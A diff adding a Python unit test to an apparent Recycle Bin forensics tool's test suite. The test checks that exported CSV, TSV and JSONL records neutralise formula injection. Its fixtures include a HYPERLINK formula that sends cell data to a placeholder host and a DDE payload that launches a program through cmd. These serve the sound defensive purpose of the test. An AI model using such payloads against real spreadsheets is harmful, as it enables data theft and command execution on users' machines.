@@ -490,6 +490,41 @@ class DamagedAndForged(TreeTest):
             "0|C:\\q\"uote\\com,ma\\tab?here\\new?line\\pipe?\\back\\sl.a\\b.c (deleted; "
             + self.tmp + "/a,b\"c?d?e\\f?g/$I\ufffd?.txt)|0|0|0|0|5|"), lines[0])
 
+    def test_spreadsheets_never_see_a_formula(self):
+        paths = {"$IHYPER": "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+                 "$IPLUS": "+1+cmd|' /C calc'!A0",
+                 "$IMINUS": "-2+3",
+                 "$IAT.txt": "C:\\a.@SUM(1)",
+                 "$ITAB": "\tC:\\tab",
+                 "$ICR": "\rC:\\cr",
+                 "$ISEP": "C:\\line\u2028sep\u2029para"}
+        for name, original in paths.items():
+            self.write(name, index_v2(-5, filetime(2021, 1, 2), original))
+        self.write("$RAT.txt", b"abc")
+        defused = {name: ("'" + p if p[0] in "=+-@\t\r" else p) for name, p in paths.items()}
+
+        for fmt, read in (("csv", parse_csv), ("tsv", parse_tsv)):
+            with self.subTest(fmt=fmt):
+                rows = read(self.records(fmt, self.tmp))
+                self.assertEqual(rows[0], FIELDS)
+                recs = {os.path.basename(r[0]): dict(zip(FIELDS, r)) for r in rows[1:]}
+                self.assertEqual({n: r["original_path"] for n, r in recs.items()}, defused)
+                self.assertEqual(recs["$IAT.txt"]["extension"], "'@SUM(1)")
+                # Numbers keep their sign.
+                self.assertEqual({r["size"] for r in recs.values()}, {"-5"})
+                self.assertEqual(recs["$IAT.txt"]["companion_size"], "3")
+
+        need_tool(self, "jq")
+        out = self.records("jsonl", self.tmp)
+        self.assertNotIn("\u2028".encode(), out)
+        self.assertNotIn("\u2029".encode(), out)
+        self.assertIn(b"line\\u2028sep\\u2029para", out)
+        p = subprocess.run(["jq", "-r", "[(.source | split(\"/\") | last), .original_path, .size] | @json"],
+                           input=out, capture_output=True, timeout=60)
+        self.assertEqual(p.returncode, 0, p.stderr)
+        got = {r[0]: (r[1], r[2]) for r in map(json.loads, p.stdout.decode().split("\n")[:-1])}
+        self.assertEqual(got, {n: (original, -5) for n, original in paths.items()})
+
     def test_user_folder_and_companion_times(self):
         folder = self.path("$RECYCLE.BIN", "s-1-5-18")
         os.makedirs(folder)
